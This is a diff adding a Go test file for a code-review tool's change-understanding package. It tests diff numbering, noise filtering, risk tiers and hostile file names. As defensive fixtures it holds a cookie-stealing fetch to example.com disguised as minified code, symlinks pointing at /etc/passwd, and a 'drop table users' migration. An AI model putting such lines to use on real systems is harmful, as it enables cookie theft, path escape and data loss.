@@ -1,0 +1,398 @@
+package change
+
+import (
+	"fmt"
+	"maps"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"touchstone/worktree"
+)
+
+// repository is a real one, with a commit on main and one on topic.
+type repository struct {
+	t   testing.TB
+	dir string
+}
+
+func newRepository(t testing.TB, files map[string]string) repository {
+	t.Helper()
+	r := repository{t, t.TempDir()}
+	r.git("init", "-q", "-b", "main")
+	r.write(files)
+	r.commit("base")
+	r.git("checkout", "-q", "-b", "topic")
+	return r
+}
+
+func (r repository) git(args ...string) string {
+	r.t.Helper()
+	cmd := exec.Command("git", append([]string{"-c", "user.name=Octo Cat", "-c", "user.email=octocat@example.com", "-c", "core.autocrlf=false", "-c", "protocol.file.allow=always"}, args...)...)
+	cmd.Dir = r.dir
+	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL="+os.DevNull, "GIT_CONFIG_NOSYSTEM=1")
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		r.t.Fatalf("git %s: %v\n%s", args[0], err, out)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+func (r repository) write(files map[string]string) {
+	r.t.Helper()
+	for name, text := range files {
+		name = filepath.Join(r.dir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
+			r.t.Fatal(err)
+		}
+		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
+			r.t.Fatal(err)
+		}
+	}
+}
+
+func (r repository) commit(message string) {
+	r.t.Helper()
+	r.git("add", "-A", "-f")
+	r.git("commit", "-q", "--allow-empty", "-m", message)
+}
+
+// acquire checks the topic out as a reviewer's agent does.
+func (r repository) acquire() *worktree.Tree {
+	r.t.Helper()
+	store := &worktree.Store{Root: r.t.TempDir()}
+	tree, err := store.Acquire(r.t.Context(), worktree.Request{
+		Remote: worktree.Remote{URL: "file://" + filepath.ToSlash(r.dir)}, Repo: "acme/app", Number: 1, Role: "reviewer",
+		Head: r.git("rev-parse", "topic"), HeadRef: "refs/heads/topic", Base: r.git("rev-parse", "main"), BaseRef: "refs/heads/main",
+	})
+	if err != nil {
+		r.t.Fatal(err)
+	}
+	r.t.Cleanup(func() {
+		if err := tree.Release(); err != nil {
+			r.t.Error(err)
+		}
+	})
+	return tree
+}
+
+// understand is what this package makes of the topic.
+func (r repository) understand(vary ...func(*Source)) Change {
+	r.t.Helper()
+	tree := r.acquire()
+	diff, err := tree.Diff(r.t.Context())
+	if err != nil {
+		r.t.Fatal(err)
+	}
+	s := Source{Diff: diff, Checkout: tree.Dir(), Dir: r.t.TempDir()}
+	for _, v := range vary {
+		v(&s)
+	}
+	c, err := Understand(r.t.Context(), s)
+	if err != nil {
+		r.t.Fatal(err)
+	}
+	return c
+}
+
+// changed is what this package makes of a change between two sets of files.
+func changed(t *testing.T, before, after map[string]string, vary ...func(*Source)) Change {
+	t.Helper()
+	r := newRepository(t, before)
+	for name := range before {
+		if _, stays := after[name]; !stays {
+			if err := os.Remove(filepath.Join(r.dir, filepath.FromSlash(name))); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	r.write(after)
+	r.commit("change")
+	return r.understand(vary...)
+}
+
+func paths(files []File) []string {
+	names := make([]string, len(files))
+	for i, f := range files {
+		names[i] = f.Path
+	}
+	return names
+}
+
+func patch(t *testing.T, f File) string {
+	t.Helper()
+	var all strings.Builder
+	for _, name := range f.Patches {
+		text, err := os.ReadFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		all.Write(text)
+	}
+	return all.String()
+}
+
+func TestLinesCarryTheirNumbers(t *testing.T) {
+	t.Parallel()
+	c := changed(t, map[string]string{"a.go": "one\ntwo\nthree\nfour\nfive\n", "gone.go": "x\n"},
+		map[string]string{"a.go": "one\ntwo\nTHREE\nthree and a half\nfour\nfive\n", "bin": "\x00\x01", "new.go": "y\n"})
+	if got := paths(c.Files); !slices.Equal(got, []string{"a.go", "bin", "gone.go", "new.go"}) {
+		t.Fatalf("files %q", got)
+	}
+	want := strings.Join([]string{
+		"a.go (modified, +2 -1), piece 1",
+		"old line, new line, change; … continues the line above",
+		"                @@ -1,5 +1,6 @@",
+		"      1       1  one",
+		"      2       2  two",
+		"      3         -three",
+		"              3 +THREE",
+		"              4 +three and a half",
+		"      4       5  four",
+		"      5       6  five", "",
+	}, "\n")
+	if got := patch(t, c.Files[0]); got != want {
+		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+	if f := c.Files[1]; len(f.Patches) > 0 || !strings.HasPrefix(f.Note, "binary") {
+		t.Errorf("a binary file: %+v", f)
+	}
+	if got := patch(t, c.Files[2]); !strings.Contains(got, "\n      1         -x\n") {
+		t.Errorf("a deleted file:\n%s", got)
+	}
+	overview, err := os.ReadFile(c.Overview)
+	if err != nil || !strings.Contains(string(overview), "- a.go (modified +2 -1)\n  patch: 0001.patch\n- bin (added +0 -0); binary") || !strings.Contains(string(overview), "4 files to read in 1 parts, 0 left out. Risk tier trivial: 5 lines in 4 files.") {
+		t.Errorf("%v\n%s", err, overview)
+	}
+}
+
+const goHeader = "// Code generated by stringer; DO NOT EDIT.\n\npackage a\n"
+
+func TestNoiseIsLeftOut(t *testing.T) {
+	t.Parallel()
+	wide := strings.Repeat("var a=1;", 100) + "\n"
+	code := map[string]string{"main.go": "package main\n"}
+	with := func(files map[string]string) map[string]string {
+		all := map[string]string{"main.go": "package main\n\nfunc main() {}\n"}
+		maps.Copy(all, files)
+		return all
+	}
+	for name, test := range map[string]struct {
+		before, after map[string]string
+		reason        string // of why x is left out; empty if it is kept
+		path          string
+	}{
+		"lock file":                       {nil, map[string]string{"web/yarn.lock": "x\n"}, "lock file", "web/yarn.lock"},
+		"new minified":                    {nil, map[string]string{"a.min.js": wide}, "minified", "a.min.js"},
+		"code named as if minified":       {nil, map[string]string{"a.min.js": "fetch('//example.com?' + document.cookie)\n"}, "", "a.min.js"},
+		"code beside a long line":         {nil, map[string]string{"a.min.js": wide + strings.Repeat("readable()\n", 60)}, "", "a.min.js"},
+		"source map":                      {nil, map[string]string{"a.js.map": `{"version":3,"mappings":"AAAA"}` + "\n"}, "source map", "a.js.map"},
+		"another file named as a map":     {nil, map[string]string{"a.js.map": "x = 1\n"}, "", "a.js.map"},
+		"vendored with its manifest":      {nil, map[string]string{"vendor/x/x.go": "package x\n", "go.mod": "module x\n"}, "vendored, and the change is one of dependencies", "vendor/x/x.go"},
+		"vendored by hand":                {nil, map[string]string{"vendor/x/x.go": "package x\n"}, "", "vendor/x/x.go"},
+		"vendored, its own manifest only": {nil, map[string]string{"vendor/x/x.go": "package x\n", "vendor/x/go.mod": "module x\n"}, "", "vendor/x/x.go"},
+		"generated anew":                  {map[string]string{"s.go": goHeader}, map[string]string{"s.go": goHeader + "\nvar x = 1\n"}, "generated", "s.go"},
+		"generated and gone":              {map[string]string{"s.go": goHeader}, nil, "generated", "s.go"},
+		"said to be generated just now":   {map[string]string{"s.go": "package a\n"}, map[string]string{"s.go": goHeader}, "", "s.go"},
+		"new and said to be generated":    {nil, map[string]string{"s.go": goHeader}, "", "s.go"},
+		"header changed and code with it": {map[string]string{"s.go": goHeader}, map[string]string{"s.go": strings.Replace(goHeader, "stringer", "stringer 2", 1) + "var x = 1\n"}, "", "s.go"},
+		"speaks of generated files":       {map[string]string{"s.go": "// Package s edits generated files.\n"}, map[string]string{"s.go": "// Package s edits generated files.\nvar x = 1\n"}, "", "s.go"},
+		"a header far down":               {map[string]string{"s.go": strings.Repeat("\n", 30) + goHeader}, map[string]string{"s.go": strings.Repeat("\n", 30) + goHeader + "var x = 1\n"}, "", "s.go"},
+		"a migration":                     {map[string]string{"db/migrations/1.sql": "-- @generated\n"}, map[string]string{"db/migrations/1.sql": "-- @generated\ndrop table users;\n"}, "", "db/migrations/1.sql"},
+		"skipped":                         {nil, map[string]string{"api/v1.pb.go": "package api\n"}, "skipped by the repository's configuration", "api/v1.pb.go"},
+		"skipped, but a migration":        {nil, map[string]string{"api/migrations/2.sql": "drop table users;\n"}, "", "api/migrations/2.sql"},
+		"python":                          {map[string]string{"a_pb2.py": "# Generated by the protocol buffer compiler.  DO NOT EDIT!\n"}, map[string]string{"a_pb2.py": "# Generated by the protocol buffer compiler.  DO NOT EDIT!\nx = 1\n"}, "generated", "a_pb2.py"},
+		"C#":                              {map[string]string{"a.cs": "// <auto-generated/>\n"}, map[string]string{"a.cs": "// <auto-generated/>\nclass X {}\n"}, "generated", "a.cs"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			before := maps.Clone(code)
+			maps.Copy(before, test.before)
+			c := changed(t, before, with(test.after), func(s *Source) { s.Skip = scope("api/**") })
+			got := "absent"
+			for _, f := range c.LeftOut {
+				if f.Path == test.path {
+					got = f.Reason
+				}
+			}
+			if slices.Contains(paths(c.Files), test.path) {
+				got = ""
+			}
+			if got != test.reason {
+				t.Errorf("%s is left out because %q; want %q", test.path, got, test.reason)
+			}
+		})
+	}
+}
+
+func TestAChangeOfNothingButNoiseIsRead(t *testing.T) {
+	t.Parallel()
+	c := changed(t, nil, map[string]string{"yarn.lock": "x\n", "go.sum": "y\n"})
+	if got := paths(c.Files); !slices.Equal(got, []string{"go.sum", "yarn.lock"}) || len(c.LeftOut) > 0 || len(c.Parts) != 1 {
+		t.Errorf("read %q, left out %d, %d parts", got, len(c.LeftOut), len(c.Parts))
+	}
+}
+
+func TestAnEmptyChange(t *testing.T) {
+	t.Parallel()
+	r := newRepository(t, map[string]string{"a": "a\n"})
+	r.commit("nothing")
+	if c := r.understand(); len(c.Files) > 0 || len(c.Parts) > 0 || c.Tier != Trivial {
+		t.Errorf("%+v", c)
+	}
+}
+
+func TestNothingElseThanFilesPassesForNoise(t *testing.T) {
+	t.Parallel()
+	for _, f := range []worktree.FileDiff{
+		{Path: "yarn.lock", OldMode: "000000", NewMode: "120000", Status: "added"},
+		{Path: "yarn.lock", OldMode: "100644", NewMode: "120000", Status: "type-changed"},
+		{Path: "yarn.lock", OldMode: "100644", NewMode: "100755", Status: "modified"},
+		{Path: "yarn.lock", OldMode: "000000", NewMode: "100755", Status: "added"},
+		{Path: "yarn.lock", OldMode: "000000", NewMode: "160000", Status: "added", Submodule: true},
+	} {
+		other := worktree.FileDiff{Path: "a.go", OldMode: "100644", NewMode: "100644"}
+		c, err := Understand(t.Context(), Source{Diff: worktree.Diff{Files: []worktree.FileDiff{f, other}}, Checkout: t.TempDir(), Dir: t.TempDir()})
+		if err != nil || len(c.Files) != 2 || c.Files[0].Note == "" {
+			t.Errorf("%s %s: %+v, %v", f.OldMode, f.NewMode, c.LeftOut, err)
+		}
+	}
+}
+
+func TestTier(t *testing.T) {
+	t.Parallel()
+	some := func(files, lines int, first string) []worktree.FileDiff {
+		all := make([]worktree.FileDiff, files)
+		for i := range all {
+			all[i] = worktree.FileDiff{Path: fmt.Sprintf("f%d.go", i), OldMode: "100644", NewMode: "100644", Status: "modified"}
+		}
+		all[0].Path, all[0].Added, all[0].Deleted = first, lines-lines/2, lines/2
+		return all
+	}
+	for _, test := range []struct {
+		files []worktree.FileDiff
+		want  Tier
+		why   string
+	}{
+		{some(1, 10, "a.go"), Trivial, "10 lines in 1 files"},
+		{some(20, 10, "a.go"), Trivial, "10 lines in 20 files"},
+		{some(1, 11, "a.go"), Lite, "11 lines"},
+		{some(20, 100, "a.go"), Lite, "100 lines"},
+		{some(1, 101, "a.go"), Full, "101 lines"},
+		{some(21, 10, "a.go"), Full, "10 lines in 21 files"},
+		{some(1, 1, "server/auth/check.go"), Full, `server/auth/check.go has "auth" in its name`},
+		{some(1, 1, "src/LoginPage.tsx"), Full, `"login"`},
+		{some(1, 1, "src/JWTVerifier.java"), Full, `"jwt"`},
+		{some(1, 1, "src/OAuthClient.cs"), Full, `"auth"`},
+		{some(1, 1, "lib/password_reset.rb"), Full, `"password"`},
+		{some(1, 1, "authors/list.go"), Trivial, "1 lines"},
+		{some(1, 1, "parser/tokenizer.go"), Trivial, "1 lines"},
+		{some(1, 1, ".github/workflows/ci.yml"), Full, "sensitive: .github/workflows/ci.yml"},
+		{some(1, 1, "db/migrations/1.sql"), Full, "sensitive: db/migrations/1.sql"},
+		{some(1, 1, "go.sum"), Full, "sensitive: go.sum"},
+		{some(1, 1, ".touchstone/guidelines/a.md"), Full, "sensitive"},
+		{some(1, 1, "docs/CODEOWNERS"), Full, "sensitive"},
+		{some(1, 1, "ledger/book.go"), Full, "sensitive by the repository's configuration: ledger/book.go"},
+		{[]worktree.FileDiff{{Path: "lib", NewMode: "160000", Submodule: true}}, Full, "lib is a submodule"},
+	} {
+		c, err := Understand(t.Context(), Source{Diff: worktree.Diff{Files: test.files}, Checkout: t.TempDir(), Dir: t.TempDir(), Sensitive: scope("ledger/**")})
+		if err != nil || c.Tier != test.want || !strings.Contains(c.Why, test.why) {
+			t.Errorf("%s: %s because of %q, %v; want %s because of %q", test.files[0].Path, c.Tier, c.Why, err, test.want, test.why)
+		}
+	}
+	if len(Trivial.Deep()) >= len(Lite.Deep()) || len(Lite.Deep()) >= len(Full.Deep()) {
+		t.Error("a higher tier is not followed deeper")
+	}
+}
+
+func TestHostileNamesAndContents(t *testing.T) {
+	t.Parallel()
+	if os.PathSeparator == '\\' {
+		t.Skip("Windows knows no such names")
+	}
+	names := []string{"two words.go", "line\nbreak.go", `quo"te'.go`, "tab\tname.go", "\xff\xfe.go", "`tick`.go", "- b.go (added +1 -0)", "<!-- x -->.md", "..hidden", "ünï.go", "a|b.go"}
+	after := map[string]string{}
+	for i, name := range names {
+		after[name] = fmt.Sprintf("number %d\n", i)
+	}
+	r := newRepository(t, map[string]string{"x": "x\n"})
+	after["bytes.txt"] = "ok \xc3\x28 \xff\n"
+	after["wide.txt"] = strings.Repeat("ä", 3_000) + "\nafter\n"
+	r.write(after)
+	for name, target := range map[string]string{"out": "../../etc/passwd", "root": "/etc/passwd", "in": "x"} {
+		if err := os.Symlink(target, filepath.Join(r.dir, name)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	r.commit("change")
+	c := r.understand()
+	notes, text := map[string]string{}, map[string]string{}
+	for _, f := range c.Files {
+		notes[f.Path], text[f.Path] = f.Note, patch(t, f)
+		head, _, _ := strings.Cut(text[f.Path], "\n")
+		if head != fmt.Sprintf("%s (added, +%d -0), piece 1", Spell(f.Path), f.Added) {
+			t.Errorf("%q is headed %q", f.Path, head)
+		}
+		for _, p := range f.Patches {
+			if ok, err := filepath.Match("[0-9][0-9][0-9][0-9]*.patch", filepath.Base(p)); !ok || err != nil || filepath.Dir(p) != filepath.Dir(c.Overview) {
+				t.Errorf("%q is written to %s", f.Path, p)
+			}
+		}
+	}
+	for i, name := range names {
+		if !strings.Contains(text[name], fmt.Sprintf("              1 +number %d\n", i)) {
+			t.Errorf("%q:\n%s", name, text[name])
+		}
+	}
+	if !strings.Contains(text["bytes.txt"], "+ok \uFFFD( \uFFFD\n") {
+		t.Errorf("bytes: %q", text["bytes.txt"])
+	}
+	if rows := strings.Split(text["wide.txt"], "\n"); len(rows) < 8 || !strings.HasPrefix(rows[4], "                "+continued+"ä") || strings.Count(text["wide.txt"], "ä") != 3_000 || !strings.Contains(text["wide.txt"], "\n              2 +after\n") {
+		t.Errorf("a long line:\n%s", text["wide.txt"])
+	}
+	if notes["out"] != "it is a symbolic link; it points out of the repository" || notes["root"] != notes["out"] || notes["in"] != "it is a symbolic link" {
+		t.Errorf("links are noted as %q, %q, %q", notes["out"], notes["root"], notes["in"])
+	}
+	overview, err := os.ReadFile(c.Overview)
+	if err != nil || strings.Count(string(overview), "\n- ") != len(c.Files) {
+		t.Errorf("%v; of %d files:\n%s", err, len(c.Files), overview)
+	}
+}
+
+func TestModesAndSubmodulesAreNamed(t *testing.T) {
+	t.Parallel()
+	r := newRepository(t, map[string]string{"run.sh": "echo\n", "lib/x": "x\n"})
+	inner := newRepository(t, map[string]string{"y": "y\n"})
+	r.git("submodule", "--quiet", "add", inner.dir, "sub")
+	r.git("update-index", "--chmod=+x", "run.sh")
+	r.git("commit", "-q", "-m", "change")
+	c := r.understand()
+	notes := map[string]string{}
+	for _, f := range c.Files {
+		notes[f.Path] = f.Note
+	}
+	if notes["run.sh"] != "was a plain file and is executable now" {
+		t.Errorf("a mode is noted as %q", notes["run.sh"])
+	}
+	want := fmt.Sprintf("a submodule, from nothing to %.12s; its content is not here", inner.git("rev-parse", "HEAD"))
+	if notes["sub"] != want || c.Tier != Full {
+		t.Errorf("a submodule is noted as %q, tier %s; want %q", notes["sub"], c.Tier, want)
+	}
+}
+
+func TestADiffThatIsCutIsSaidToBe(t *testing.T) {
+	t.Parallel()
+	c := changed(t, map[string]string{"a": "a\n"}, map[string]string{"a": "a\n", "huge.txt": strings.Repeat("a long line of some text\n", 1<<16)})
+	f := c.Files[0]
+	if !c.Truncated || !f.Truncated || !strings.Contains(f.Note, "its diff is cut") || !strings.HasSuffix(patch(t, f), cutNote) {
+		t.Errorf("truncated %v, note %q", c.Truncated, f.Note)
+	}
+	for _, p := range f.Patches {
+		if info, err := os.Stat(p); err != nil || info.Size() > maxPiece+1<<10 {
+			t.Errorf("%v, %v", info, err)
+		}
+	}
+}
